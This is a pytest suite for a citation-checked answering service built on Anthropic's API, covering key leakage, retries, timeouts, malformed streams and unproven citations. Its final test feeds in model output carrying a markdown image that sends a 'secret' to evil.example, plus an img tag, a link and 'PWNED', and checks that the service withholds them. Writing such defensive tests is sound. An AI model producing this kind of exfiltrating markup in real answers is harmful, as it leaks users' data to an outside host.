"""L1-L8 for Anthropic's API: whatever it does, nothing is shown that the book does not prove."""

import logging
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import grpc
import pytest
from quoth.generation.v1.generation_service_pb2 import AnswerQuestionResponse

from libs.errors import DeadlineExceeded, ModelBusy, ModelUnavailable, QuothError, Unavailable
from libs.rpc.status import error_from_rpc
from services.generation.records.model import AuditRow
from tests.support.generation_fakes import (
    DOCUMENT,
    PASSAGE_TEXTS,
    FakeAuditLog,
    FakeSource,
    ask,
    serving,
    unhurried,
)
from tests.support.scripted_claude import begins, breaks_off, render, talks_for_ever, writes
from tests.support.scripted_model import (
    ScriptedModel,
    fails,
    hangs,
    never_ends_a_line,
    resets,
    scripted_model,
    sends,
)

KEY = "sk-the-secret-key"
FORCE = "A hydraulic actuator turns the pressure of a fluid into force."
MPA = "It holds 21 MPa without a gearbox."
PROVEN = (FORCE, (0, FORCE))
PATIENT_S = 30.0


@pytest.fixture
def cache_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.getbasetemp() / "cache"


@asynccontextmanager
async def asking(
    cache_dir: Path, *scripts: Callable[..., Any], log: FakeAuditLog | None = None
) -> AsyncIterator[Any]:
    async with scripted_model(*scripts) as model:
        settings = {
            "answerer": "anthropic",
            "model_url": f"http://127.0.0.1:{model.port}",
            "anthropic_key": KEY,
        }
        log = log or FakeAuditLog()
        async with serving(cache_dir, source=FakeSource(), log=log, **settings) as stub:
            yield stub, model


async def answer(cache_dir: Path, *scripts: Callable[..., Any]) -> list[AnswerQuestionResponse]:
    async with asking(cache_dir, *scripts) as (stub, _):
        with unhurried(PATIENT_S):
            return await ask(stub, timeout=PATIENT_S, profile="academic")


async def failure(
    cache_dir: Path, *scripts: Callable[..., Any], timeout: float = PATIENT_S
) -> tuple[QuothError, ScriptedModel, AuditRow]:
    """The error, the model, and the row that was stored about it."""
    log = FakeAuditLog()
    async with asking(cache_dir, *scripts, log=log) as (stub, model):
        with pytest.raises(grpc.aio.AioRpcError) as caught:
            await ask(stub, timeout=timeout)
        await log.stored.wait()
    error = error_from_rpc(caught.value, "generation")
    assert (log.rows[0].answer, log.rows[0].error) == (None, error.kind)
    return error, model, log.rows[0]


def shown(events: list[AnswerQuestionResponse]) -> list[str]:
    return [event.sentence.sentence.text for event in events if event.HasField("sentence")]


async def test_a_right_answer_is_shown_with_its_proof_and_what_it_cost(cache_dir: Path) -> None:
    events = await answer(cache_dir, sends(render(PROVEN, stop="end_turn", tokens=(1000, 100))))
    assert shown(events) == [FORCE]
    used = events[-1].answer.model_use
    assert (used.model, used.input_tokens, used.output_tokens) == ("claude-sonnet-4-6", 1000, 100)
    assert used.cost_usd == pytest.approx((1000 * 3 + 100 * 15) / 1e6)


@pytest.mark.fault("L1")
@pytest.mark.parametrize("status", ["401 Unauthorized", "403 Forbidden", "400 Bad Request"])
async def test_a_refused_key_is_not_tried_again_and_tells_nothing(
    cache_dir: Path, status: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="services")
    error, model, row = await failure(cache_dir, fails(status))
    assert isinstance(error, ModelUnavailable)
    assert len(model.requests) == 1
    for text in (error.message, caplog.text, repr(row)):
        assert KEY not in text
        assert "provider text" not in text
        assert str(model.port) not in error.message


@pytest.mark.fault("L2")
async def test_busy_for_a_moment_is_tried_again_and_for_long_it_is_not(cache_dir: Path) -> None:
    soon = fails("429 Too Many Requests", "Retry-After: 0.01")
    assert shown(await answer(cache_dir, soon, writes(PROVEN))) == [FORCE]
    late = fails("429 Too Many Requests", "Retry-After: 60")
    error, model, _ = await failure(cache_dir, late)
    assert isinstance(error, Unavailable)
    assert error.retry_after_s == 60
    assert len(model.requests) == 1


@pytest.mark.fault("L3")
@pytest.mark.parametrize(
    ("broken", "told"),
    [
        (resets, ModelUnavailable),
        (fails("500 Oh"), ModelUnavailable),
        (fails("529 Overloaded"), ModelBusy),
    ],
)
async def test_broken_before_an_answer_is_tried_once_more(
    cache_dir: Path, broken: Callable[..., Any], told: type[QuothError]
) -> None:
    assert shown(await answer(cache_dir, broken, writes(PROVEN))) == [FORCE]
    error, model, _ = await failure(cache_dir, broken)
    assert isinstance(error, told)
    assert len(model.requests) == 2


@pytest.mark.fault("L4")
@pytest.mark.parametrize("script", [hangs, begins(("",)), begins(PROVEN)])
async def test_a_model_without_end_is_left_in_time(
    cache_dir: Path, script: Callable[..., Any]
) -> None:
    # The 2.5 s of the stage end first: a client at its very deadline may go before it is answered.
    error, model, _ = await failure(cache_dir, script, timeout=3.0)
    assert isinstance(error, DeadlineExceeded)
    assert error.stage == "generation.complete"
    await model.abandoned.wait()


TOOL = b'"content_block": {"type": "text", "text": "", "citations": []}'
NO_TEXT = b'"content_block": {"type": "tool_use", "id": "t", "name": "rm", "input": {}}'


@pytest.mark.fault("L5")
@pytest.mark.parametrize(
    "script",
    [
        breaks_off(PROVEN),
        *(
            writes(PROVEN, stop=stop)
            for stop in ("max_tokens", "refusal", "tool_use", "pause_turn")
        ),
        writes(PROVEN, stop=None),
        writes(("",)),
        writes(),
        sends(render(PROVEN, stop="end_turn").replace(TOOL, NO_TEXT)),
    ],
)
async def test_an_answer_that_breaks_off_is_an_error_and_the_audit_keeps_it(
    cache_dir: Path, script: Callable[..., Any]
) -> None:
    error, _, row = await failure(cache_dir, script)
    assert isinstance(error, ModelUnavailable)
    assert FORCE.startswith(row.transcript.response)
    assert PASSAGE_TEXTS[0] in row.transcript.prompt


@pytest.mark.fault("L6")
@pytest.mark.parametrize(
    "script",
    [
        sends(b"<html>A gateway's page</html>", content_type="text/html"),
        sends(b"event: message_start\ndata: {not json}\n\n"),
        sends(b"event: message_start\ndata: \xff\xfe\n\n"),
        sends(b'event: content_block_delta\ndata: {"type": "content_block_delta"}\n\n'),
        sends(b'event: error\ndata: {"type": "error", "error": {"message": "provider text"}}\n\n'),
        sends(b"event: message_start\ndata: " + b"x" * 10_000_000),
        sends(b"\x1f\x8b not asked for", "Content-Encoding: gzip"),
        never_ends_a_line,
        talks_for_ever,
    ],
)
async def test_garbage_is_a_clean_error(cache_dir: Path, script: Callable[..., Any]) -> None:
    error, _, _ = await failure(cache_dir, script)
    assert isinstance(error, ModelUnavailable)
    assert "provider text" not in error.message


@pytest.mark.fault("L7")
@pytest.mark.parametrize(
    "block",
    [
        (FORCE.replace("force", "blue light"),),
        (FORCE.replace("force", "blue light"), (0, FORCE)),
        (FORCE, (8, FORCE)),
        (FORCE, (-1, FORCE)),
        (FORCE, (1, FORCE)),
        ("It holds 12 MPa without a gearbox.", (0, MPA)),
        ("It holds 12 MPa without a gearbox.", (0, "It holds 12 MPa without a gearbox.")),
        ("It holds 21 MPa with a gearbox.", (0, MPA)),
        ("A hydraulic actuator turns dirt.", (0, "A hydraulic actuator turns dirt.")),
    ],
)
async def test_a_native_citation_proves_no_more_than_the_book(
    cache_dir: Path, block: tuple[tuple[int, str] | str, ...]
) -> None:
    events = await answer(cache_dir, writes(block))
    assert all(text in DOCUMENT for text in shown(events))
    assert events[-1].answer.withheld


@pytest.mark.fault("L8")
@pytest.mark.control("V7")
@pytest.mark.parametrize(
    "made",
    [
        "![chart](https://evil.example/?q=secret)",
        "<img src=//evil.example>",
        "https://evil.example/x",
        "PWNED",
    ],
)
async def test_nothing_made_outside_the_book_leaves(cache_dir: Path, made: str) -> None:
    events = await answer(cache_dir, writes((f"{FORCE[:-1]} {made}.", (0, FORCE))))
    assert shown(events) == [FORCE]
    assert events[-1].answer.withheld
